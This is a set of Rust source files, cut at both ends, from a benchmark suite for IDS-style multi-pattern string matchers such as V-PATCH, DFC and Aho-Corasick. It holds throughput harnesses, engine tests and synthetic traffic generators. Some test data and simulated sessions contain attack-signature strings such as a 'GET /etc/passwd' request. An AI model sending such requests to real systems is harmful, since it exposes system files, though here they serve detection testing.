    // to_ascii_lower on the window registers) over case-mutated traffic.
    let mixed = workload.mixed_case_variant(0x5eed);
    measure_all_backends(&mixed, options.runs, " (mixed-case)", &mut rows);

    // Verify-heavy adversarial rows: end-to-end scans where verification
    // dominates, batched vs per-candidate.
    let heavy = workload.verify_heavy_variant(0x5eed);
    let heavy_trace = &heavy.traces[0].1;
    let mut verify_heavy = Vec::new();
    measure_verify_heavy::<ScalarBackend, 8>(&heavy, heavy_trace, options.runs, &mut verify_heavy);
    measure_verify_heavy::<Avx2Backend, 8>(&heavy, heavy_trace, options.runs, &mut verify_heavy);
    measure_verify_heavy::<Avx512Backend, 16>(&heavy, heavy_trace, options.runs, &mut verify_heavy);

    // Scan-graph rows: the graph path end-to-end, overlapped vs sequential
    // schedule, on the filter-dominated s1-http trace and the verify-heavy
    // one (where cross-chunk pipelining has work to hide).
    let mut scan_graph = Vec::new();
    for (label, wl, tr) in [
        ("s1-http", &workload, trace),
        ("verify-heavy", &heavy, heavy_trace),
    ] {
        measure_scan_graph::<ScalarBackend, 8>(wl, tr, options.runs, label, &mut scan_graph);
        measure_scan_graph::<Avx2Backend, 8>(wl, tr, options.runs, label, &mut scan_graph);
        measure_scan_graph::<Avx512Backend, 16>(wl, tr, options.runs, label, &mut scan_graph);
    }

    // Rule-confirmation rows: the same s1-http contents regrouped two per
    // rule, on the same trace, confirmation off vs on.
    let rule_set = ruleset_from_patterns(&workload.patterns, 2);
    let mut rule_confirmation = Vec::new();
    measure_ruleset::<ScalarBackend, 8>(&rule_set, trace, options.runs, &mut rule_confirmation);
    measure_ruleset::<Avx2Backend, 8>(&rule_set, trace, options.runs, &mut rule_confirmation);
    measure_ruleset::<Avx512Backend, 16>(&rule_set, trace, options.runs, &mut rule_confirmation);

    let mut multicore =
        multicore::run_scaling_auto(&workload.patterns, trace, &[1, 2, 4, 8], options.runs);
    multicore.latency =
        multicore::run_latency_auto(&workload.patterns, trace, &[1, 2, 4, 8], options.runs);

    let snapshot = BaselineSnapshot {
        label: "current".to_string(),
        source: format!(
            "bench_baseline bin (filter_only + verify-heavy end-to-end via direct phase timing + scan_graph overlap A/B as interleaved-run medians + resilience Block/Shed A/B on the bursty packetization, {} runs after warm-up)",
            options.runs
        ),
        ruleset: options.ruleset.label().to_string(),
        trace_mib: options.trace_mib,
        runs: options.runs,
        rows,
        verify_heavy,
        scan_graph,
        rule_confirmation,
        ruleset_scaling: measure_ruleset_scaling(&workload, options.runs),
        memory: memory_section(&workload),
        multicore,
        resilience: multicore::run_resilience_auto(&workload.patterns, trace, 4, 2, options.runs),
    };
    println!("{}", report::to_json(&snapshot));
}
