//! Emits the machine-readable perf-trajectory snapshot recorded in the
//! repository's `BENCH_baseline.json`.
//!
//! Measures the Figure 6 quantity — V-PATCH filtering-phase throughput with
//! and without candidate stores — for every backend this CPU supports (plus
//! the scalar reference at both widths), on the canonical fig6 workload
//! (S1-HTTP ruleset, ISCX-day2-like trace). Output is a JSON snapshot in the
//! `vpatch-bench-baseline/v1` row shape (`rows[].gbps` / `rows[].gbps_std`);
//! the checked-in `BENCH_baseline.json` accumulates one snapshot per
//! optimisation PR so regressions and wins stay diff-able:
//!
//! ```text
//! cargo run --release -p mpm-bench --bin bench_baseline -- --mb 1 --runs 30
//! ```
//!
//! `--mb` / `--runs` tune trace size and repetitions; `--ruleset` switches
//! the sub-figure workload. Each snapshot records its own `source`
//! (methodology); only compare rows whose sources match.
//!
//! The snapshot also carries a `multicore` section: aggregate
//! `ShardedScanner` throughput (full scans over a packetized copy of the
//! same trace) at 1/2/4/8 workers — the multi-core scaling trajectory. Its
//! `available_parallelism` field records how many hardware threads the
//! machine had, so flat scaling on a 1-CPU runner is not misread as a
//! regression.

use mpm_bench::measure::measure_closure;
use mpm_bench::{multicore, report, MultiCoreFigure, Options, Workload};
use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend};
use mpm_traffic::TraceKind;
use mpm_vpatch::{FilterOnlyMode, Scratch, VPatch};
use serde::Serialize;

/// One measured (backend, configuration) point, in the
/// `vpatch-bench-baseline/v1` row shape.
#[derive(Clone, Debug, Serialize)]
struct BaselineRow {
    /// Backend name as reported by the trait (`scalar` / `avx2` / `avx512`).
    backend: String,
    /// Vector width the engine was instantiated at.
    lanes: usize,
    /// `filtering+stores` or `filtering` (the two V-PATCH bars of Figure 6).
    config: String,
    /// Mean filtering-phase throughput in Gbit/s.
    gbps: f64,
    /// Sample standard deviation of the throughput.
    gbps_std: f64,
}

/// One snapshot of the perf trajectory (what this binary emits).
#[derive(Clone, Debug, Serialize)]
struct BaselineSnapshot {
    /// Snapshot label; edit when merging into `BENCH_baseline.json`.
    label: String,
    /// Measurement methodology; appended snapshots are only comparable to
    /// entries whose `source` matches.
    source: String,
    /// Ruleset the engines were compiled for.
    ruleset: String,
    /// Trace size in MiB.
    trace_mib: usize,
    /// Measured repetitions per point.
    runs: usize,
    /// One row per backend × configuration.
    rows: Vec<BaselineRow>,
    /// Multi-core scaling on the same workload: aggregate sharded-scan
    /// throughput (full scans, not filtering-only) vs worker count.
    multicore: MultiCoreFigure,
}

fn measure_backend<B: VectorBackend<W>, const W: usize>(
    workload: &Workload,
    trace: &[u8],
    runs: usize,
    config_suffix: &str,
    rows: &mut Vec<BaselineRow>,
) {
    if !B::is_available() {
        return;
    }
    let engine = VPatch::<B, W>::build(&workload.patterns);
    let mut scratch = Scratch::with_capacity_for(trace.len());
    for (mode, config) in [
        (FilterOnlyMode::WithStores, "filtering+stores"),
        (FilterOnlyMode::NoStores, "filtering"),
    ] {
        let measurement = measure_closure(trace.len(), runs, || {
            engine.filter_only(trace, mode, &mut scratch)
        });
        rows.push(BaselineRow {
            backend: B::name().to_string(),
            lanes: W,
            config: format!("{config}{config_suffix}"),
            gbps: measurement.gbps_mean,
            gbps_std: measurement.gbps_std,
        });
    }
}

fn measure_all_backends(
    workload: &Workload,
    runs: usize,
    suffix: &str,
    rows: &mut Vec<BaselineRow>,
) {
    let trace = &workload.traces[0].1;
    measure_backend::<ScalarBackend, 8>(workload, trace, runs, suffix, rows);
    measure_backend::<ScalarBackend, 16>(workload, trace, runs, suffix, rows);
    measure_backend::<Avx2Backend, 8>(workload, trace, runs, suffix, rows);
    measure_backend::<Avx512Backend, 16>(workload, trace, runs, suffix, rows);
}

fn main() {
    let options = Options::from_env();
    let workload =
        Workload::build_with_traces(options.ruleset, options.trace_mib, &[TraceKind::IscxDay2]);
    let trace = &workload.traces[0].1;

    let mut rows = Vec::new();
    // Case-sensitive-only rows: the historical byte-exact fast path — these
    // are the rows the zero-regression claim compares across snapshots.
    measure_all_backends(&workload, options.runs, "", &mut rows);
    // Mixed-case rows: ~1/3 of the patterns nocase (folded filters +
    // to_ascii_lower on the window registers) over case-mutated traffic.
    let mixed = workload.mixed_case_variant(0x5eed);
    measure_all_backends(&mixed, options.runs, " (mixed-case)", &mut rows);

    let multicore =
        multicore::run_scaling_auto(&workload.patterns, trace, &[1, 2, 4, 8], options.runs);

    let snapshot = BaselineSnapshot {
        label: "current".to_string(),
        source: format!(
            "bench_baseline bin (filter_only via measure_closure, {} runs after warm-up)",
            options.runs
        ),
        ruleset: options.ruleset.label().to_string(),
        trace_mib: options.trace_mib,
        runs: options.runs,
        rows,
        multicore,
    };
    println!("{}", report::to_json(&snapshot));
}
