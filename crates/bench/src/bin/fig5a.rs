//! Reproduces Figure 5a: S-PATCH vs V-PATCH throughput (and their speedup)
//! as the number of patterns grows from 1K to 20K.

use mpm_bench::{experiments, report, Options};

fn main() {
    let options = Options::from_env();
    let figure = experiments::run_pattern_scaling(&options, &experiments::PATTERN_SWEEP);
    if options.json {
        println!("{}", report::to_json(&figure));
    } else {
        print!("{}", report::render_scaling(&figure));
    }
}
