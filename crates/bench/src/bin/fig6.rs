//! Reproduces Figure 6 (a/b/c): throughput of the filtering phase in
//! isolation — S-PATCH filtering, V-PATCH filtering including candidate
//! stores, and pure V-PATCH filtering.
//!
//! `--ruleset s1|s2|full` selects sub-figure 6a/6b/6c.

use mpm_bench::{experiments, report, Options};

fn main() {
    let options = Options::from_env();
    let figure = experiments::run_filtering_only(&options);
    if options.json {
        println!("{}", report::to_json(&figure));
    } else {
        print!("{}", report::render_filtering(&figure));
    }
}
