//! Cache-locality ablation: replays the engines' data-structure accesses
//! through Haswell-like and Xeon-Phi-like cache hierarchies, reproducing the
//! paper's §II-B (DFC ≪ AC misses) and §V-E (no L3 on Phi hurts DFC's
//! verification) observations.

use mpm_bench::{experiments, report, Options};

fn main() {
    let options = Options::from_env();
    let figure = experiments::run_cache_ablation(&options);
    if options.json {
        println!("{}", report::to_json(&figure));
    } else {
        print!("{}", report::render_cache(&figure));
    }
}
