//! Reproduces Figure 4 (a/b): overall throughput of the five algorithms on
//! the four traces, Haswell vector width (8 lanes).
//!
//! `--ruleset s1` → Figure 4a, `--ruleset s2` → Figure 4b.

use mpm_bench::engines::Platform;
use mpm_bench::{experiments, report, Options};

fn main() {
    let options = Options::from_env();
    let figure = experiments::run_throughput_figure(&options, Platform::Haswell);
    if options.json {
        println!("{}", report::to_json(&figure));
    } else {
        print!("{}", report::render_throughput(&figure));
    }
}
