//! Throughput measurement: how the paper's Gbps numbers are produced.
//!
//! Each experiment point runs the engine's counting scan (the paper: "all
//! algorithms count the number of matches") over the trace `runs` times after
//! one warm-up pass, and reports the mean and sample standard deviation of
//! the per-run throughput in Gbit/s, exactly the metric on the paper's
//! y-axes.

use mpm_patterns::stats::RunningStats;
use mpm_patterns::Matcher;
use serde::Serialize;
use std::time::Instant;

/// One measured point.
#[derive(Clone, Copy, Debug, Serialize)]
pub struct Measurement {
    /// Mean throughput in Gbit/s.
    pub gbps_mean: f64,
    /// Sample standard deviation of the throughput.
    pub gbps_std: f64,
    /// Matches counted in the last run (sanity check: identical across
    /// engines on the same workload).
    pub matches: u64,
    /// Number of measured runs.
    pub runs: usize,
}

/// Measures the counting throughput of `engine` over `input`.
pub fn measure_throughput(engine: &dyn Matcher, input: &[u8], runs: usize) -> Measurement {
    assert!(runs > 0, "need at least one run");
    // Warm-up: touches the engine tables and the input once.
    let mut matches = engine.count(input);
    let mut stats = RunningStats::new();
    for _ in 0..runs {
        let start = Instant::now();
        matches = engine.count(input);
        let elapsed = start.elapsed().as_secs_f64();
        stats.push(gbps(input.len(), elapsed));
    }
    Measurement {
        gbps_mean: stats.mean(),
        gbps_std: stats.stddev(),
        matches,
        runs,
    }
}

/// Measures an arbitrary closure processing `bytes` bytes per call (used for
/// the filtering-only experiments where the measured unit is not a full
/// `Matcher` scan).
pub fn measure_closure<F: FnMut() -> u64>(bytes: usize, runs: usize, mut body: F) -> Measurement {
    assert!(runs > 0, "need at least one run");
    let mut checksum = body();
    let mut stats = RunningStats::new();
    for _ in 0..runs {
        let start = Instant::now();
        checksum = checksum.wrapping_add(body());
        let elapsed = start.elapsed().as_secs_f64();
        stats.push(gbps(bytes, elapsed));
    }
    Measurement {
        gbps_mean: stats.mean(),
        gbps_std: stats.stddev(),
        matches: checksum,
        runs,
    }
}

/// Converts `(bytes, seconds)` to Gbit/s.
pub fn gbps(bytes: usize, seconds: f64) -> f64 {
    if seconds <= 0.0 {
        return f64::INFINITY;
    }
    (bytes as f64 * 8.0) / seconds / 1e9
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::{NaiveMatcher, PatternSet};

    #[test]
    fn gbps_conversion() {
        // 1 GB in 1 s = 8 Gbps.
        assert!((gbps(1_000_000_000, 1.0) - 8.0).abs() < 1e-9);
        assert!(gbps(100, 0.0).is_infinite());
    }

    #[test]
    fn measurement_reports_match_count_and_positive_throughput() {
        let set = PatternSet::from_literals(&["ab"]);
        let matcher = NaiveMatcher::new(&set);
        let input = b"ababab".repeat(2_000);
        let m = measure_throughput(&matcher, &input, 3);
        assert_eq!(m.runs, 3);
        assert!(m.gbps_mean > 0.0);
        assert_eq!(m.matches, matcher.count(&input));
    }

    #[test]
    fn closure_measurement_runs_body() {
        let mut calls = 0u64;
        let m = measure_closure(1_000, 2, || {
            calls += 1;
            calls
        });
        // warm-up + 2 measured runs
        assert_eq!(calls, 3);
        assert!(m.gbps_mean > 0.0);
    }

    #[test]
    #[should_panic(expected = "at least one run")]
    fn zero_runs_rejected() {
        let set = PatternSet::from_literals(&["x"]);
        let matcher = NaiveMatcher::new(&set);
        let _ = measure_throughput(&matcher, b"xx", 0);
    }
}
