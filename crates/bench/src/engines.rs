//! Engine registry: builds each of the five algorithms the paper compares,
//! at a chosen vector width.

use mpm_aho_corasick::DfaMatcher;
use mpm_dfc::{Dfc, VectorDfc};
use mpm_patterns::{Matcher, PatternSet};
use mpm_simd::{Avx2Backend, Avx512Backend, BackendKind, ScalarBackend, VectorBackend};
use mpm_vpatch::{SPatch, VPatch};

/// The five algorithms of the paper's evaluation (Figures 4 and 7).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum EngineKind {
    /// Snort-style full-DFA Aho-Corasick.
    AhoCorasick,
    /// Scalar DFC (Choi et al.).
    Dfc,
    /// Direct vectorization of DFC's filtering.
    VectorDfc,
    /// Scalar S-PATCH (this paper, Algorithm 1).
    SPatch,
    /// Vectorized V-PATCH (this paper, Algorithm 2).
    VPatch,
}

impl EngineKind {
    /// The engines in the order the paper's figures list them.
    pub const ALL: [EngineKind; 5] = [
        EngineKind::AhoCorasick,
        EngineKind::Dfc,
        EngineKind::VectorDfc,
        EngineKind::SPatch,
        EngineKind::VPatch,
    ];

    /// Figure label.
    pub fn label(self) -> &'static str {
        match self {
            EngineKind::AhoCorasick => "Aho-Corasick",
            EngineKind::Dfc => "DFC",
            EngineKind::VectorDfc => "Vector-DFC",
            EngineKind::SPatch => "S-PATCH",
            EngineKind::VPatch => "V-PATCH",
        }
    }
}

/// Which SIMD platform the vectorized engines should model.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Platform {
    /// The paper's Haswell machine: AVX2, 8 lanes (falls back to the scalar
    /// backend at width 8 if the CPU lacks AVX2).
    Haswell,
    /// The paper's Xeon-Phi: 512-bit vectors, 16 lanes (falls back to the
    /// scalar backend at width 16 if the CPU lacks AVX-512).
    XeonPhi,
}

impl Platform {
    /// Number of 32-bit lanes for this platform.
    pub fn lanes(self) -> usize {
        match self {
            Platform::Haswell => 8,
            Platform::XeonPhi => 16,
        }
    }

    /// The backend actually used on this machine for this platform model.
    pub fn effective_backend(self) -> BackendKind {
        match self {
            Platform::Haswell if BackendKind::Avx2.is_available() => BackendKind::Avx2,
            Platform::XeonPhi if BackendKind::Avx512.is_available() => BackendKind::Avx512,
            _ => BackendKind::Scalar,
        }
    }

    /// Human-readable description of what will run, e.g.
    /// `"haswell-width (8 lanes, avx2)"`.
    pub fn describe(self) -> String {
        let name = match self {
            Platform::Haswell => "haswell-width",
            Platform::XeonPhi => "xeon-phi-width",
        };
        format!(
            "{name} ({} lanes, {})",
            self.lanes(),
            self.effective_backend()
        )
    }
}

/// Builds an engine of the requested kind over `set`, using the SIMD width
/// of `platform` for the vectorized engines.
pub fn build_engine(
    kind: EngineKind,
    set: &PatternSet,
    platform: Platform,
) -> Box<dyn Matcher + Send + Sync> {
    match kind {
        EngineKind::AhoCorasick => Box::new(DfaMatcher::build(set)),
        EngineKind::Dfc => Box::new(Dfc::build(set)),
        EngineKind::VectorDfc => match platform {
            Platform::Haswell => {
                if <Avx2Backend as VectorBackend<8>>::is_available() {
                    Box::new(VectorDfc::<Avx2Backend, 8>::build(set))
                } else {
                    Box::new(VectorDfc::<ScalarBackend, 8>::build(set))
                }
            }
            Platform::XeonPhi => {
                if <Avx512Backend as VectorBackend<16>>::is_available() {
                    Box::new(VectorDfc::<Avx512Backend, 16>::build(set))
                } else {
                    Box::new(VectorDfc::<ScalarBackend, 16>::build(set))
                }
            }
        },
        EngineKind::SPatch => Box::new(SPatch::build(set)),
        EngineKind::VPatch => match platform {
            Platform::Haswell => {
                if <Avx2Backend as VectorBackend<8>>::is_available() {
                    Box::new(VPatch::<Avx2Backend, 8>::build(set))
                } else {
                    Box::new(VPatch::<ScalarBackend, 8>::build(set))
                }
            }
            Platform::XeonPhi => {
                if <Avx512Backend as VectorBackend<16>>::is_available() {
                    Box::new(VPatch::<Avx512Backend, 16>::build(set))
                } else {
                    Box::new(VPatch::<ScalarBackend, 16>::build(set))
                }
            }
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::naive::naive_find_all;

    #[test]
    fn every_engine_builds_and_is_exact() {
        let set = PatternSet::from_literals(&["GET", "abcd", "x", "/etc/passwd"]);
        let hay = b"GET /etc/passwd x abcdefgh";
        let expected = naive_find_all(&set, hay);
        for platform in [Platform::Haswell, Platform::XeonPhi] {
            for kind in EngineKind::ALL {
                let engine = build_engine(kind, &set, platform);
                assert_eq!(
                    engine.find_all(hay),
                    expected,
                    "{} on {:?}",
                    kind.label(),
                    platform
                );
            }
        }
    }

    #[test]
    fn platform_descriptions_mention_lane_count() {
        assert!(Platform::Haswell.describe().contains("8 lanes"));
        assert!(Platform::XeonPhi.describe().contains("16 lanes"));
    }

    #[test]
    fn every_engine_reports_a_consistent_memory_footprint() {
        // The uniform contract behind the bench snapshot's memory section:
        // footprint.total() == heap_bytes() for every engine, and the
        // filtering engines attribute their bytes to the filter/verify split.
        let set = PatternSet::from_literals(&["GET", "abcd", "x", "/etc/passwd", "attack"]);
        for kind in EngineKind::ALL {
            let engine = build_engine(kind, &set, Platform::Haswell);
            let fp = engine.memory_footprint();
            assert_eq!(fp.total(), engine.heap_bytes(), "{}", kind.label());
            assert!(fp.total() > 0, "{}", kind.label());
            if matches!(
                kind,
                EngineKind::Dfc | EngineKind::VectorDfc | EngineKind::SPatch | EngineKind::VPatch
            ) {
                assert!(fp.filter_bytes > 0, "{}", kind.label());
                assert!(fp.verify_bytes > 0, "{}", kind.label());
                assert_eq!(fp.other_bytes, 0, "{}", kind.label());
            }
        }
        // The non-figure engines expose the same contract.
        let wm = mpm_wu_manber::WuManber::build(&set);
        assert_eq!(wm.memory_footprint().total(), wm.heap_bytes());
        assert!(wm.memory_footprint().filter_bytes > 0);
        assert!(wm.memory_footprint().verify_bytes > 0);
        let nfa = mpm_aho_corasick::NfaMatcher::build(&set);
        assert_eq!(nfa.memory_footprint().total(), nfa.heap_bytes());
        let naive = mpm_patterns::NaiveMatcher::new(&set);
        assert_eq!(naive.memory_footprint().total(), naive.heap_bytes());
    }
}
