//! Match-density-controlled input generator (Figure 5c).
//!
//! For Figure 5c the paper "created a synthetic input that contains
//! increasingly more patterns, randomly selected from a ruleset of 2,000
//! patterns", sweeping the fraction of the input that matches from 0% to
//! 100%. [`MatchDensityGenerator`] reproduces that: it fills a buffer with
//! benign filler and then overwrites a chosen fraction of its bytes with
//! verbatim pattern occurrences.

use mpm_patterns::{PatternId, PatternSet};
use rand::prelude::*;
use rand::rngs::StdRng;

/// Generator for inputs whose matching-byte fraction is controlled.
#[derive(Clone, Copy, Debug)]
pub struct MatchDensityGenerator {
    /// Length of the generated input.
    pub len: usize,
    /// RNG seed.
    pub seed: u64,
    /// If true the filler between occurrences is ASCII text (closer to real
    /// traffic); if false it is uniformly random bytes.
    pub ascii_filler: bool,
}

impl MatchDensityGenerator {
    /// Creates a generator for inputs of `len` bytes.
    pub fn new(len: usize, seed: u64) -> Self {
        MatchDensityGenerator {
            len,
            seed,
            ascii_filler: true,
        }
    }

    /// Generates an input in which approximately `fraction` of the bytes
    /// (clamped to `[0, 1]`) are covered by occurrences of patterns drawn
    /// uniformly from `patterns`.
    ///
    /// The achieved fraction can differ slightly from the request because
    /// occurrences are whole patterns; the difference is below one average
    /// pattern length per placement region.
    pub fn generate(&self, patterns: &PatternSet, fraction: f64) -> Vec<u8> {
        let fraction = fraction.clamp(0.0, 1.0);
        let mut rng = StdRng::seed_from_u64(self.seed ^ (fraction * 1e6) as u64);
        let mut out = vec![0u8; self.len];
        if self.ascii_filler {
            const FILLER: &[u8] =
                b"abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789\r\n./:-_";
            for b in out.iter_mut() {
                *b = FILLER[rng.gen_range(0..FILLER.len())];
            }
        } else {
            rng.fill_bytes(&mut out);
        }
        if patterns.is_empty() || fraction == 0.0 || self.len == 0 {
            return out;
        }

        let target_bytes = (self.len as f64 * fraction) as usize;
        let mut covered = 0usize;
        let mut pos = 0usize;
        // Walk the buffer left to right, placing a pattern then skipping a gap
        // sized so that coverage converges to the target fraction.
        while covered < target_bytes && pos < self.len {
            let id = PatternId(rng.gen_range(0..patterns.len()) as u32);
            let p = patterns.get(id);
            if pos + p.len() > self.len {
                // Try a shorter pattern a few times, then stop.
                let mut placed = false;
                for _ in 0..16 {
                    let id = PatternId(rng.gen_range(0..patterns.len()) as u32);
                    let q = patterns.get(id);
                    if pos + q.len() <= self.len {
                        out[pos..pos + q.len()].copy_from_slice(q.bytes());
                        covered += q.len();
                        pos += q.len();
                        placed = true;
                        break;
                    }
                }
                if !placed {
                    break;
                }
                continue;
            }
            out[pos..pos + p.len()].copy_from_slice(p.bytes());
            covered += p.len();
            pos += p.len();
            // Gap so that pattern bytes / total bytes ≈ fraction.
            if fraction < 1.0 {
                let gap = ((p.len() as f64) * (1.0 - fraction) / fraction).round() as usize;
                pos += gap;
            }
        }
        out
    }

    /// Measures the fraction of bytes of `input` covered by occurrences of
    /// `patterns` (union of all match intervals). Used by tests and by the
    /// Figure 5c harness to report the achieved density.
    pub fn measure_fraction(patterns: &PatternSet, input: &[u8]) -> f64 {
        if input.is_empty() {
            return 0.0;
        }
        let matches = mpm_patterns::naive::naive_find_all(patterns, input);
        let mut covered = vec![false; input.len()];
        for m in matches {
            let end = m.end(patterns).min(input.len());
            for flag in &mut covered[m.start..end] {
                *flag = true;
            }
        }
        covered.iter().filter(|&&c| c).count() as f64 / input.len() as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set() -> PatternSet {
        PatternSet::from_literals(&[
            "attackvector",
            "exploit-kit",
            "malware",
            "ZZQQ",
            "payload99",
        ])
    }

    #[test]
    fn zero_fraction_produces_no_matches() {
        let g = MatchDensityGenerator::new(20_000, 1);
        let input = g.generate(&set(), 0.0);
        assert_eq!(input.len(), 20_000);
        let f = MatchDensityGenerator::measure_fraction(&set(), &input);
        assert!(f < 0.01, "expected ~no matches, got {f}");
    }

    #[test]
    fn requested_fraction_is_approximately_achieved() {
        let g = MatchDensityGenerator::new(60_000, 2);
        for &target in &[0.1, 0.3, 0.5, 0.8] {
            let input = g.generate(&set(), target);
            let achieved = MatchDensityGenerator::measure_fraction(&set(), &input);
            assert!(
                (achieved - target).abs() < 0.12,
                "target {target}, achieved {achieved}"
            );
        }
    }

    #[test]
    fn full_fraction_is_mostly_pattern_bytes() {
        let g = MatchDensityGenerator::new(30_000, 3);
        let input = g.generate(&set(), 1.0);
        let achieved = MatchDensityGenerator::measure_fraction(&set(), &input);
        assert!(achieved > 0.9, "got {achieved}");
    }

    #[test]
    fn deterministic_per_seed_and_fraction() {
        let g = MatchDensityGenerator::new(5_000, 9);
        assert_eq!(g.generate(&set(), 0.4), g.generate(&set(), 0.4));
        assert_ne!(g.generate(&set(), 0.4), g.generate(&set(), 0.6));
    }

    #[test]
    fn empty_pattern_set_returns_filler() {
        let g = MatchDensityGenerator::new(1_000, 4);
        let empty = PatternSet::new(vec![]);
        let input = g.generate(&empty, 0.5);
        assert_eq!(input.len(), 1_000);
    }

    #[test]
    fn binary_filler_option() {
        let mut g = MatchDensityGenerator::new(10_000, 5);
        g.ascii_filler = false;
        let input = g.generate(&set(), 0.2);
        // Random filler should contain plenty of non-ASCII bytes.
        let non_ascii = input.iter().filter(|&&b| b >= 0x80).count();
        assert!(non_ascii > 1_000);
    }
}
