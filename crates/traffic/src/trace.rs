//! Whole-trace generators: one per dataset used in the paper's evaluation.

use crate::http::{generate_transaction, HttpConfig};
use mpm_patterns::PatternSet;
use rand::prelude::*;
use rand::rngs::StdRng;

/// Which of the paper's traces to synthesise.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Hash)]
pub enum TraceKind {
    /// ISCX dataset, day 2 sample (HTTP-heavy realistic traffic).
    IscxDay2,
    /// ISCX dataset, day 6 sample (HTTP-heavy, slightly different mix).
    IscxDay6,
    /// DARPA 2000 capture (older traffic mix, more non-HTTP protocols,
    /// fewer pattern occurrences).
    Darpa2000,
    /// Uniformly random bytes (the synthetic data set of the paper).
    Random,
}

impl TraceKind {
    /// All trace kinds in the order the paper's figures present them.
    pub const ALL: [TraceKind; 4] = [
        TraceKind::IscxDay2,
        TraceKind::IscxDay6,
        TraceKind::Darpa2000,
        TraceKind::Random,
    ];

    /// The "realistic traffic" traces (left-hand panels of Figures 4 and 7).
    pub const REALISTIC: [TraceKind; 3] = [
        TraceKind::IscxDay2,
        TraceKind::IscxDay6,
        TraceKind::Darpa2000,
    ];

    /// Display label matching the paper's figure axes.
    pub fn label(self) -> &'static str {
        match self {
            TraceKind::IscxDay2 => "ISCX day2",
            TraceKind::IscxDay6 => "ISCX day6",
            TraceKind::Darpa2000 => "DARPA 2000",
            TraceKind::Random => "random",
        }
    }

    /// Default RNG seed for this trace (so different traces differ even with
    /// the same spec parameters).
    fn default_seed(self) -> u64 {
        match self {
            TraceKind::IscxDay2 => 0x15c8_0002,
            TraceKind::IscxDay6 => 0x15c8_0006,
            TraceKind::Darpa2000 => 0xda19_2000,
            TraceKind::Random => 0x4a4d_0001,
        }
    }

    /// How many bytes of stream separate two injected pattern occurrences on
    /// average. `None` means no occurrences are injected (random trace).
    ///
    /// These densities were chosen so that, as in the paper, realistic traces
    /// produce orders of magnitude more verifications/matches than the random
    /// trace, with DARPA the quietest of the three realistic ones.
    fn injection_period(self) -> Option<usize> {
        match self {
            TraceKind::IscxDay2 => Some(1_800),
            TraceKind::IscxDay6 => Some(2_400),
            TraceKind::Darpa2000 => Some(4_000),
            TraceKind::Random => None,
        }
    }
}

/// Specification of a trace to generate.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TraceSpec {
    /// Which dataset to emulate.
    pub kind: TraceKind,
    /// Length of the generated payload stream in bytes.
    pub len: usize,
    /// RNG seed. [`TraceSpec::new`] fills in a per-kind default.
    pub seed: u64,
}

impl TraceSpec {
    /// Creates a spec with the default seed for `kind`.
    pub fn new(kind: TraceKind, len: usize) -> Self {
        TraceSpec {
            kind,
            len,
            seed: kind.default_seed(),
        }
    }

    /// Overrides the seed.
    pub fn with_seed(mut self, seed: u64) -> Self {
        self.seed = seed;
        self
    }
}

/// Generator that turns a [`TraceSpec`] (plus, for realistic traces, the
/// pattern set whose occurrences should appear in the traffic) into a byte
/// stream.
#[derive(Clone, Copy, Debug, Default)]
pub struct TraceGenerator;

impl TraceGenerator {
    /// Generates the trace described by `spec`.
    ///
    /// For the realistic traces (`IscxDay2`, `IscxDay6`, `Darpa2000`) pattern
    /// occurrences from `patterns` are injected at the trace's characteristic
    /// density, emulating the fact that real traffic contains the strings the
    /// rules look for (`GET`, `User-Agent:`, exploit payloads observed in the
    /// datasets, ...). For the `Random` trace `patterns` is ignored.
    pub fn generate(spec: &TraceSpec, patterns: Option<&PatternSet>) -> Vec<u8> {
        let mut rng = StdRng::seed_from_u64(spec.seed);
        let mut out = Vec::with_capacity(spec.len + 4096);
        match spec.kind {
            TraceKind::Random => {
                out.resize(spec.len, 0);
                rng.fill_bytes(&mut out);
            }
            TraceKind::IscxDay2 | TraceKind::IscxDay6 => {
                let config = HttpConfig::default();
                while out.len() < spec.len {
                    generate_transaction(&mut rng, &config, &mut out);
                }
            }
            TraceKind::Darpa2000 => {
                let config = HttpConfig {
                    response_body_probability: 0.7,
                    mean_body_len: 600,
                    binary_body_probability: 0.35,
                };
                while out.len() < spec.len {
                    if rng.gen_bool(0.65) {
                        generate_transaction(&mut rng, &config, &mut out);
                    } else {
                        push_legacy_protocol_session(&mut rng, &mut out);
                    }
                }
            }
        }
        out.truncate(spec.len);

        if let (Some(period), Some(set)) = (spec.kind.injection_period(), patterns) {
            inject_pattern_occurrences(&mut rng, &mut out, set, period);
        }
        out
    }
}

/// Emulates telnet/FTP/SMTP-style sessions that make up part of the DARPA mix.
fn push_legacy_protocol_session(rng: &mut StdRng, out: &mut Vec<u8>) {
    const LINES: &[&str] = &[
        "220 hostname FTP server (Version wu-2.6.0) ready.\r\n",
        "USER anonymous\r\n",
        "331 Guest login ok, send your complete e-mail address as password.\r\n",
        "PASS guest@\r\n",
        "230 Guest login ok, access restrictions apply.\r\n",
        "CWD /pub\r\n250 CWD command successful.\r\n",
        "RETR README\r\n150 Opening ASCII mode data connection.\r\n",
        "MAIL FROM:<user@example.com>\r\n250 ok\r\n",
        "RCPT TO:<admin@victim.mil>\r\n250 ok\r\n",
        "login: guest\r\nPassword: \r\nLast login: Tue Mar  7 09:21:11\r\n$ ls -la /etc\r\n",
        "HELO relay.example.org\r\n250 Hello relay.example.org\r\n",
    ];
    let n = rng.gen_range(3..10);
    for _ in 0..n {
        out.extend_from_slice(LINES.choose(rng).unwrap().as_bytes());
    }
}

/// Overwrites stream bytes with pattern occurrences roughly every `period`
/// bytes. Occurrence positions and pattern choices are random but seeded.
fn inject_pattern_occurrences(
    rng: &mut StdRng,
    stream: &mut [u8],
    patterns: &PatternSet,
    period: usize,
) {
    if patterns.is_empty() || stream.is_empty() {
        return;
    }
    let mut pos = rng.gen_range(0..period.min(stream.len()));
    while pos < stream.len() {
        // Prefer patterns that fit at this position; skip pathological cases.
        for _ in 0..8 {
            let idx = rng.gen_range(0..patterns.len());
            let p = patterns.get(mpm_patterns::PatternId(idx as u32));
            if pos + p.len() <= stream.len() {
